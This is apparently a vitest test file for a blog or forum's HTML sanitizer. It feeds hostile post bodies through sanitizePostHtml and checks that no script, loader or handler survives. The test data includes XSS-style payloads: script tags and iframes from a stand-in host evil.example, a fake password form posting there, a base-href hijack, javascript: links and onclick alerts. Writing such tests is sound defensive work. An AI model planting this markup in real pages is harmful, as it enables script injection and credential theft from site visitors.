import { describe, expect, it } from 'vitest';
import { HOSTILE_VECTORS, unsafeMarkup } from '@/lib/testing/hostile-corpus';
import { sanitizePostHtml } from './sanitize';

// Hostile post bodies: what a malicious author, a compromised import or a pasted page could send.
// Each must come out with nothing a browser would run or load on its own. The code vectors are
// the shared corpus (lib/testing/hostile-corpus.ts, also pushed through every field end to end);
// the rest load or overlay things without running code, which post bodies must not do either.
const LOADS_OR_OVERLAYS: string[] = [
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<a href="//evil.example/steal">x</a>',
  '<blockquote cite="data:text/html,x"><p>q</p></blockquote>',
  '<iframe src="https://evil.example"></iframe>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<applet code="Evil.class"></applet>',
  '<form action="https://evil.example"><input name="password" type="password"><button>Go</button></form>',
  '<base href="https://evil.example/">',
  '<a href="https://example.com" target="_blank">x</a>',
  '<p><img src="https://example.com/a.png" width="100" height="100" loading="lazy" referrerpolicy="unsafe-url" ping="https://t.example"></p>',
  '<div id="x" class="y" data-track="z">text</div>',
];

const CORPUS: string[] = [...HOSTILE_VECTORS.map((v) => v.payload), ...LOADS_OR_OVERLAYS];

describe('sanitizePostHtml against hostile input', () => {
  it('has a corpus of at least 60 code vectors', () => {
    expect(HOSTILE_VECTORS.length).toBeGreaterThanOrEqual(60);
  });

  it.each(CORPUS)('%s', (input) => {
    const output = sanitizePostHtml(input);
    expect(unsafeMarkup(output)).toEqual([]);
    // Sanitizing is stable: what is stored comes out the same when sanitized again (imports, re-saves).
    expect(sanitizePostHtml(output)).toBe(output);
  });

  it('would notice an unsafe result (the checker itself works)', () => {
    expect(unsafeMarkup('<p onclick="x">a</p><a href="java&#x09;script:x">b</a><script></script><p style="x">c</p>')).toEqual([
      'onclick handler',
      'href=java\tscript:x',
      '<script>',
      'style attribute',
    ]);
  });

  it('keeps the harmless part of hostile markup', () => {
    expect(sanitizePostHtml('<p onclick="alert(1)">Kept text</p>')).toBe('<p>Kept text</p>');
    expect(sanitizePostHtml('<a href="javascript:alert(1)">Link text</a>')).toBe('<a>Link text</a>');
  });
});
